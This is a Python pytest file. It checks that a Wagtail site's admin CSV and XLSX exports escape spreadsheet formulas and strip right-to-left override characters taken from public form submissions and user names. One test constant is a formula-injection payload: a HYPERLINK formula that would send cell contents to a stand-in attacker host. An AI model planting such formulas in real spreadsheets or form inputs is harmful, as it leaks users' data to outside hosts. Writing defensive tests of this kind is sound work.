"""The Wagtail admin's spreadsheet exports are as safe as the site's own (docs/security.md,
"Exports"): what the public types into a form, or a person into their name, never runs as a
formula in ORS's spreadsheet and never reorders what ORS reads.

CSV text a spreadsheet would run gets a leading apostrophe; XLSX cells are text, with no
apostrophe; bidirectional-override characters are gone from both.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from openpyxl import load_workbook
from wagtail.models import Site

from cms.models import FormField, FormPage
from lms.access import ORS_STAFF_GROUP
from lms.spreadsheet_exports import BIDI_CONTROLS
from tests.cms.test_registration import valid_data
from tests.factories import UserFactory, make_agency, make_member

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'
RTL_OVERRIDE = "\u202e"
# A name that reads "Smith" with the override left in: the spreadsheet shows it reversed.
REVERSED_NAME = f"{RTL_OVERRIDE}htimS"


@pytest.fixture
def ors(client):
    person = UserFactory()
    person.groups.add(Group.objects.get(name=ORS_STAFF_GROUP))
    client.force_login(person)
    return client


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_cells(response) -> list:
    assert response.status_code == 200, response.status_code
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_csv_safe(rows: list[list[str]], *, guarded: str) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + guarded in cells, cells
    assert not [c for c in cells if c and c[0] in "=+-@" and c != "-"], cells
    assert not [c for c in cells if any(ch in c for ch in BIDI_CONTROLS)]


def assert_xlsx_safe(cells: list, *, text: str) -> None:
    matching = [cell for cell in cells if cell.value == text]
    assert matching, [cell.value for cell in cells]
    assert all(cell.data_type == "s" for cell in matching)  # text, never a formula
    assert not [c for c in cells if c.data_type == "f"]
    values = [str(c.value) for c in cells if c.value is not None]
    assert not [v for v in values if v.startswith("'=")]  # no apostrophe shown as data
    assert not [v for v in values if any(ch in v for ch in BIDI_CONTROLS)]


def test_a_public_registration_exports_safely_for_ors(client, ors):
    public = type(client)()
    public.post(
        "/register-program/",
        valid_data(agency_name=FORMULA, contact_name=f"Pat {REVERSED_NAME}"),
    )
    url = "/admin/snippets/cms/programregistration/"

    assert_csv_safe(csv_rows(ors.get(url, {"export": "csv"})), guarded=FORMULA)
    cells = xlsx_cells(ors.get(url, {"export": "xlsx"}))
    assert_xlsx_safe(cells, text=FORMULA)
    assert "Pat htimS" in [c.value for c in cells]


def test_a_name_with_a_direction_override_exports_without_it(ors):
    agency = make_agency(name="Capital City Police Department")
    make_member(agency=agency, user=UserFactory(first_name="=2+5", last_name=REVERSED_NAME))
    url = "/admin/snippets/lms/membership/"

    rows = csv_rows(ors.get(url, {"export": "csv"}))
    assert_csv_safe(rows, guarded="=2+5 htimS")
    assert_xlsx_safe(xlsx_cells(ors.get(url, {"export": "xlsx"})), text="=2+5 htimS")


def test_the_site_history_exports_a_persons_own_name_safely(client, ors, password):
    someone = UserFactory(first_name="=1+2", last_name=REVERSED_NAME)
    sign_in = type(client)()
    sign_in.post("/accounts/login/", {"login": someone.email, "password": password})
    url = "/admin/reports/site-history/"

    rows = csv_rows(ors.get(url, {"export": "csv"}))
    assert_csv_safe(rows, guarded="=1+2 htimS")
    assert_xlsx_safe(xlsx_cells(ors.get(url, {"export": "xlsx"})), text="=1+2 htimS")


def test_the_reports_keep_their_admin_access_check(client):
    for url in ("/admin/reports/site-history/", "/admin/reports/site-history/results/"):
        assert client.get(url)["Location"].startswith("/accounts/login/"), url
        client.force_login(make_member(agency=make_agency()).user)
        assert client.get(url, {"export": "csv"}).status_code in (302, 403), url
        client.logout()


def test_answers_to_a_survey_export_safely(client, ors):
    root = Site.objects.get(is_default_site=True).root_page
    survey = root.add_child(
        instance=FormPage(title="Program survey", slug="program-survey", live=True)
    )
    FormField.objects.create(page=survey, label="Comments", field_type="singleline")
    survey.save_revision().publish()
    public = type(client)()
    response = public.post(survey.url, {"comments": FORMULA + RTL_OVERRIDE})
    assert response.status_code == 200, response.content.decode()[:2000]
    url = f"/admin/forms/submissions/{survey.pk}/"

    assert_csv_safe(csv_rows(ors.get(url, {"export": "csv"})), guarded=FORMULA)
    assert_xlsx_safe(xlsx_cells(ors.get(url, {"export": "xlsx"})), text=FORMULA)
